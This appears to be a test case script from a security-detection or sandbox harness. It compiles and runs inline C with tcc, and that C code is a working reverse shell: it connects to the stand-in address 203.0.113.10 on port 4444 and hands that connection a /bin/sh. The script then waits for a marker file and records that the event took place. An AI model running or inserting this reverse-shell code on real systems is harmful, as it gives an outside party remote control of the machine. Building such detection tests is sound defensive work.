#!/bin/sh
. /opt/case/case.sh

tcc -run - <<'EOF' || true
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
    struct sockaddr_in to = { AF_INET, htons(4444) };
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "203.0.113.10", &to.sin_addr);
    if (connect(fd, (void *)&to, sizeof to))
        return 1;
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    return execl("/bin/sh", "sh", (char *)0);
}
EOF
wait_for /tmp/reached
took_place
